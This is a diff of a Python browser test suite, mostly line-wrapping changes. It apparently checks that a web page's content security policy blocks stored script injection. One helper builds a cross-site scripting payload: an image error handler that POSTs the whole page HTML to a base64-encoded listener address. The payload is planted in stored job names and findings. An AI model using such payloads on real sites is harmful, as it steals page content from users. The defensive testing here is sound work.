@@ -15,8 +15,8 @@ pytestmark = pytest.mark.browser
 SECRET = "the-secret-of-this-machine"
 PAIRS = 100
 FILE_INPUT = (
-    "[...document.querySelectorAll('button')].find(e => e.innerText.trim().startsWith('Upload a log'))"
-    ".parentElement.querySelector('input[type=file]')"
+    "[...document.querySelectorAll('button')].find(e => e.innerText.trim().startsWith('Upload a "
+    "log')).parentElement.querySelector('input[type=file]')"
 )
 
 
@@ -43,7 +43,9 @@ class Listener:
         threading.Thread(target=self.server.serve_forever, daemon=True).start()
 
     def script(self):
-        """A picture that marks the page and sends all that is in it; no slash, as it stands in names of files."""
+        """A picture that marks the page and sends all that is in it; no slash, as it stands in
+        names of files.
+        """
         to = base64.b64encode(self.address.encode()).decode().rstrip("=")
         send = f"window.hurt=1;fetch(atob('{to}'),{{method:'POST',body:document.body.outerHTML}})"
         return f'a"><img src=x onerror="{send}">'
@@ -58,18 +60,25 @@ def listener():
 
 
 def write_strangers_folder(folder, secret, script):
-    """Every stored thing that the page shows holds a script; results name a file outside, directly and by links."""
+    """Every stored thing that the page shows holds a script; results name a file outside, directly
+    and by links.
+    """
     for number, step, words, result in (
         (1, "robot", ["robot", "new", "x", "--out", "robot1"], {}),
         (2, "import", ["import", script, "--out", "import2"], {}),
         (3, "doctor", ["doctor", script], {"figures": [str(secret), f"pic/{script}.png"]}),
-        (4, "doctor", ["doctor", "./import2"], {
-            "figures": ["link.svg", f"{script}.svg"],
-            "findings": [{"level": "error", "check": script, "message": script}],
-        }),
+        (
+            4,
+            "doctor",
+            ["doctor", "./import2"],
+            {
+                "figures": ["link.svg", f"{script}.svg"],
+                "findings": [{"level": "error", "check": script, "message": script}],
+            },
+        ),
         (5, "gap", [script], {}),
         (6, "train", [script], None),
-    ):  # fmt: skip
+    ):
         job = folder / "jobs" / f"{number:03d}-{step}"
         job.mkdir(parents=True)
         (job / "command.json").write_text(json.dumps(words))
@@ -157,7 +166,9 @@ def test_where_escaping_is_forgotten_the_policy_of_the_page_holds(tmp_path, list
 
 
 def upload_script(page, at_once):
-    """JavaScript that uploads PAIRS times `at_once` files, at set moments, so that two pages do it together."""
+    """JavaScript that uploads PAIRS times `at_once` files, at set moments, so that two pages do it
+    together.
+    """
     return f"""
         const input = {FILE_INPUT};
         window.ended = 0;
@@ -249,6 +260,7 @@ def test_a_broken_zip_behind_a_large_file_is_named_until_it_is_dismissed(empty):
         assert "Not stored: broken.zip" in browser.value(text)
         assert "broken.zip is stored" not in browser.value(text)
         browser.value(
-            "[...document.querySelectorAll('button')].find(e => e.innerText.trim() === 'Dismiss').click()"
+            "[...document.querySelectorAll('button')].find(e => e.innerText.trim() === "
+            "'Dismiss').click()"
         )
         wait(lambda: "broken.zip" not in browser.value(text).replace("Uploading broken.zip", ""))
